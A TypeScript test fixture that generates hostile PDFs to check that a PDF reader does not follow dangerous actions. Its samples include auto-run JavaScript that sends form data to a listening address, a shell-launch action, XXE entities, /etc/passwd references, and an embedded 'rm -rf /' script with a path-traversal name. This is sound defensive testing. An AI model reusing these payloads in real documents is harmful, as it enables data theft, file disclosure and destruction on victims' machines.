import type { HostileFile } from "./hostile-file.ts";
import { LINE, oddPdf, stream } from "./raw-pdf.ts";

const opening = (action: string) => () => oddPdf({ catalogue: `/OpenAction << ${action} >>` });
const image = (entries: string) => () =>
  oddPdf({
    resources: "/XObject << /X 10 0 R >>",
    draw: "q 100 0 0 50 16 16 cm /X Do Q",
    objects: {
      10: stream(
        `/Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceGray ${entries}`,
        "",
      ),
    },
  });

/** Actions and references that a careless reader follows; `decoy` is an address where somebody listens. */
export const curiousPdfs = (decoy: string): HostileFile[] => {
  const script = `app.launchURL\\("${decoy}"\\); this.submitForm\\("${decoy}"\\); while \\(true\\);`;
  const files: [what: string, bytes: HostileFile["bytes"]][] = [
    ["a script that runs when it is opened", opening(`/S /JavaScript /JS (${script})`)],
    ["a script of each page", () => oddPdf({ page: `/AA << /O << /S /JavaScript /JS (${script}) >> >>` })],
    [
      "scripts by name",
      () => oddPdf({ catalogue: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${script}) >>] >> >>` }),
    ],
    ["a program to be launched", opening(`/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>`)],
    ["an address to be opened", opening(`/S /URI /URI (${decoy})`)],
    ["a form to be sent", opening(`/S /SubmitForm /F << /FS /URL /F (${decoy}) >>`)],
    ["data to be fetched", opening(`/S /ImportData /F << /FS /URL /F (${decoy}) >>`)],
    ["a page of another document", opening(`/S /GoToR /F << /FS /URL /F (${decoy}) >> /D [0 /Fit]`)],
    ["a share of another machine", opening(String.raw`/S /GoToR /F (\\\\127.0.0.1\\share\\a.pdf) /D [0 /Fit]`)],
    ["a picture that lies elsewhere", image(`/F << /FS /URL /F (${decoy}) >>`)],
    ["a picture of this machine's files", image("/F (/etc/passwd)")],
    [
      "a page whose content is a file of this machine",
      () => oddPdf({ page: "/Contents [4 0 R 10 0 R]", objects: { 10: stream("/F (/etc/passwd)", "") } }),
    ],
    [
      "a form with a script and an address (XFA)",
      () =>
        oddPdf({
          catalogue: "/AcroForm << /Fields [] /XFA 10 0 R >>",
          objects: {
            10: stream(
              "",
              `<!DOCTYPE x [<!ENTITY e SYSTEM "${decoy}">]><xdp><script>xfa.host.gotoURL("${decoy}")</script>&e;</xdp>`,
            ),
          },
        }),
    ],
    [
      "a program that is attached",
      () =>
        oddPdf({
          catalogue: "/Names << /EmbeddedFiles << /Names [(../../evil.sh) 10 0 R] >> >>",
          objects: {
            10: "<< /Type /Filespec /F (../../evil.sh) /EF << /F 11 0 R >> >>",
            11: stream("/Type /EmbeddedFile", "#!/bin/sh\nrm -rf /\n"),
          },
        }),
    ],
    [
      "metadata that name an entity elsewhere",
      () =>
        oddPdf({
          catalogue: "/Metadata 10 0 R",
          objects: {
            10: stream("/Type /Metadata /Subtype /XML", `<!DOCTYPE x [<!ENTITY e SYSTEM "${decoy}">]><x>&e;</x>`),
          },
        }),
    ],
    [
      "a font that lies elsewhere",
      () =>
        oddPdf({
          objects: {
            5: "<< /Type /Font /Subtype /TrueType /BaseFont /Far /FontDescriptor 10 0 R >>",
            10: "<< /Type /FontDescriptor /FontName /Far /Flags 32 /FontFile2 11 0 R >>",
            11: stream(`/F << /FS /URL /F (${decoy}) >>`, ""),
          },
        }),
    ],
  ];
  return files.map(([what, bytes]) => ({ what: `a PDF with ${what}`, bytes, ends: "succeeded", says: LINE }));
};
